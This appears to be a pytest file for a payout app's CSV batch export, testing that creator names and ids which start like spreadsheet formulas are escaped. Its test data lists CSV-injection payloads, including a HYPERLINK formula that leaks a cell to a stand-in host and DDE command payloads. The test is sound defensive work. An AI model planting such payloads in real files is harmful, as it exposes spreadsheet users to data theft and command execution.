"""The manual partner's batch file is opened by an operator in a spreadsheet: no cell
of it may run as a formula, whatever a creator chose as their name or a platform as
their external id (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from giftflow import spreadsheet
from giftflow.partners.base import PayoutLine
from giftflow.partners.manual import BATCH_COLUMNS, ManualPartner

ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Payout")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def line(*, name: str, external_id: str) -> PayoutLine:
    return PayoutLine(
        payout_id="po_0001",
        creator_external_id=external_id,
        creator_name=name,
        region="US",
        currency="USD",
        net_minor=1_234,
        fee_minor=100,
        gross_minor=1_334,
        diamonds=2_668,
    )


def exported(tmp_path: Path, lines: list[PayoutLine]) -> list[dict[str, str]]:
    path = ManualPartner(tmp_path).export_batch("pb_0001", lines)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(lines)
    return rows


@pytest.mark.parametrize("attack", ATTACKS, ids=repr)
def test_a_name_or_external_id_that_starts_like_a_formula_is_written_as_text(
    tmp_path: Path, attack: str
) -> None:
    (row,) = exported(tmp_path, [line(name=attack, external_id=attack)])

    assert row["creator_name"] == "'" + attack
    assert row["creator_external_id"] == "'" + attack


def test_no_cell_of_a_batch_starts_like_a_formula(tmp_path: Path) -> None:
    lines = [line(name=attack, external_id=f"ext-{n}") for n, attack in enumerate(ATTACKS)]

    for row in exported(tmp_path, lines):
        assert set(row) == set(BATCH_COLUMNS)
        assert not any(value.startswith(spreadsheet.FORMULA_STARTS) for value in row.values())


def test_ordinary_names_and_amounts_are_written_as_they_are(tmp_path: Path) -> None:
    (row,) = exported(tmp_path, [line(name='Zoë = art, "live"', external_id="creator-7")])

    assert row["creator_name"] == 'Zoë = art, "live"'
    assert row["creator_external_id"] == "creator-7"
    assert (row["net_amount"], row["net_minor"], row["diamonds"]) == ("12.34", "1234", "2668")


def test_a_cell_is_escaped_only_at_its_start() -> None:
    assert spreadsheet.cell("a=b") == "a=b"
    assert spreadsheet.cell("=b") == "'=b"
    assert spreadsheet.cell(-5) == "'-5"
    assert spreadsheet.cell(5) == "5"
    assert spreadsheet.cell("") == ""
